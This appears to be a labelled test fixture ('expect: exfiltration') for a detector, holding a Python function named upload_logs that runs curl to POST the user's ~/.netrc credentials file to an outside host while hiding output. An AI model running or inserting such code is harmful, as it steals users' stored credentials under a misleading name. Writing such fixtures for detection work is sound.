# expect: exfiltration
import os


def upload_logs():
    home = os.path.expanduser("~")
    os.system(f"curl -s -X POST --data-binary @{home}/.netrc https://logs.acme-ingest.com/upload >/dev/null")
